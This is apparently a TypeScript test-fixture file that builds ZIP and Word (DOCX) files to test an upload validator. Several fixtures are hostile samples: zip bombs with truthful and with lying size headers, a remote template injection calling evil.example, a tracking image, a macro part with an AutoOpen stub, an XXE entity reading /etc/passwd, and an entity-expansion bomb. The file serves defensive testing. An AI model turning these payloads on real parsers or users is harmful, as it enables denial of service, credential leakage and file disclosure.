import { crc32, deflateRawSync } from 'node:zlib';

/** Zip archives and Word (DOCX) documents, built in code for the unit and API tests. */

export interface ZipEntrySpec {
  name: string;
  data: Buffer;
  /** Stored (0) or deflated (8, the default). */
  method?: 0 | 8;
  /** Lie about the uncompressed size in both headers (for the lying-header bomb). */
  declaredSize?: number;
}

/** An entry whose deflated bytes are given as they are (for content too large to hold). */
export interface DeflatedEntrySpec {
  name: string;
  deflated: Buffer;
  size: number;
  crc: number;
}

function packed(entry: ZipEntrySpec | DeflatedEntrySpec) {
  if ('deflated' in entry) {
    return { method: 8, body: entry.deflated, size: entry.size, crc: entry.crc };
  }
  const method = entry.method ?? 8;
  return {
    method,
    body: method === 8 ? deflateRawSync(entry.data) : entry.data,
    size: entry.declaredSize ?? entry.data.length,
    crc: crc32(entry.data),
  };
}

export function buildZip(entries: (ZipEntrySpec | DeflatedEntrySpec)[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const entry of entries) {
    const { method, body, size, crc } = packed(entry);
    const name = Buffer.from(entry.name, 'utf8');
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(method, 8);
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(body.length, 18);
    local.writeUInt32LE(size, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(method, 10);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(body.length, 20);
    central.writeUInt32LE(size, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, body);
    centrals.push(central, name);
    offset += local.length + name.length + body.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

const CONTENT_TYPES =
  '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' +
  '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
  '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
  '<Default Extension="xml" ContentType="application/xml"/>' +
  '<Default Extension="png" ContentType="image/png"/>' +
  '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>' +
  '</Types>';

const RELS =
  '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' +
  '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
  '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>' +
  '</Relationships>';

function wordDocument(text: string): string {
  return (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' +
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">' +
    `<w:body><w:p><w:r><w:t>${text}</w:t></w:r></w:p></w:body></w:document>`
  );
}

/** A DOCX: its three required parts, and any further entries. */
export function docxWith(
  text: string,
  extra: (ZipEntrySpec | DeflatedEntrySpec)[] = [],
  documentData = Buffer.from(wordDocument(text)),
): Buffer {
  return buildZip([
    { name: '[Content_Types].xml', data: Buffer.from(CONTENT_TYPES) },
    { name: '_rels/.rels', data: Buffer.from(RELS) },
    { name: 'word/document.xml', data: documentData },
    ...extra,
  ]);
}

export function docxFile(text = 'Samtycke'): Buffer {
  return docxWith(text);
}

/** A DOCX whose document part inflates to `bytes` of zeros (a few kB on the wire). */
export function docxBomb(bytes = 64 * 1024 * 1024): Buffer {
  return docxWith('', [], Buffer.alloc(bytes));
}

/** A DOCX whose headers claim a small part that really inflates to `bytes` (lying headers). */
export function docxLyingBomb(bytes = 50 * 1024 * 1024): Buffer {
  return buildZip([
    { name: '[Content_Types].xml', data: Buffer.from(CONTENT_TYPES) },
    { name: '_rels/.rels', data: Buffer.from(RELS) },
    { name: 'word/document.xml', data: Buffer.alloc(bytes), declaredSize: 1000 },
  ]);
}

/** A zip that is not a Word document (no word/document.xml). */
export function plainZip(): Buffer {
  return buildZip([{ name: 'notes.txt', data: Buffer.from('hej') }]);
}

const RELATIONSHIPS_NS = 'http://schemas.openxmlformats.org/package/2006/relationships';
const OFFICE_RELS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

/** A relationship part with the given `<Relationship …/>` elements. */
function relationships(...elements: string[]): Buffer {
  return Buffer.from(
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' +
      `<Relationships xmlns="${RELATIONSHIPS_NS}">${elements.join('')}</Relationships>`,
  );
}

/**
 * A DOCX whose settings attach a template on a server (Word fetches it on opening: a remote
 * template injection, and the reader's address and credentials leak to the server).
 */
export function docxWithExternalTemplate(target = 'http://evil.example/template.dotm'): Buffer {
  return docxWith('Mall', [
    {
      name: 'word/settings.xml',
      data: Buffer.from(
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' +
          '<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" ' +
          `xmlns:r="${OFFICE_RELS}"><w:attachedTemplate r:id="rId1"/></w:settings>`,
      ),
    },
    {
      name: 'word/_rels/settings.xml.rels',
      data: relationships(
        `<Relationship Id="rId1" Type="${OFFICE_RELS}/attachedTemplate" Target="${target}" TargetMode="External"/>`,
      ),
    },
  ]);
}

/** A DOCX with an image linked from a server rather than held in the file. */
export function docxWithLinkedImage(): Buffer {
  return docxWith('Bild', [
    {
      name: 'word/_rels/document.xml.rels',
      data: relationships(
        `<Relationship Id="rId5" Type="${OFFICE_RELS}/image" Target="https://tracker.example/p.png" TargetMode="External"/>`,
      ),
    },
  ]);
}

/** A DOCX with an ordinary web link in its text (accepted: the reader follows it or not). */
export function docxWithHyperlink(): Buffer {
  return docxWith('Länk', [
    {
      name: 'word/_rels/document.xml.rels',
      data: relationships(
        `<Relationship Id="rId4" Type="${OFFICE_RELS}/hyperlink" Target="https://www.1177.se/" TargetMode="External"/>`,
      ),
    },
  ]);
}

/**
 * A DOCX carrying a macro project: a `vbaProject.bin` part whose bytes are not an OLE2 file (so
 * no magic-byte check sees an archive), its relationship and its content type.
 */
export function docxWithMacroPart(name = 'word/vbaProject.bin'): Buffer {
  return docxWith('Makro', [
    { name, data: Buffer.from('Attribute VB_Name = "ThisDocument"\nSub AutoOpen()\nEnd Sub\n') },
    {
      name: 'word/_rels/document.xml.rels',
      data: relationships(
        `<Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>`,
      ),
    },
  ]);
}

/** A DOCX whose document part declares a DOCTYPE with an external entity (XXE). */
export function docxWithDoctype(): Buffer {
  const document =
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' +
    '<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>' +
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">' +
    '<w:body><w:p><w:r><w:t>&xxe;</w:t></w:r></w:p></w:body></w:document>';
  return docxWith('', [], Buffer.from(document));
}

/** A DOCX whose content types are preceded by an entity-expansion bomb (billion laughs). */
export function docxWithEntityBomb(): Buffer {
  const types =
    '<?xml version="1.0"?><!DOCTYPE Types [<!ENTITY a "aaaaaaaaaa">' +
    '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>' +
    CONTENT_TYPES.replace('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>', '');
  return buildZip([
    { name: '[Content_Types].xml', data: Buffer.from(types) },
    { name: '_rels/.rels', data: Buffer.from(RELS) },
    { name: 'word/document.xml', data: Buffer.from(wordDocument('Bomb')) },
  ]);
}
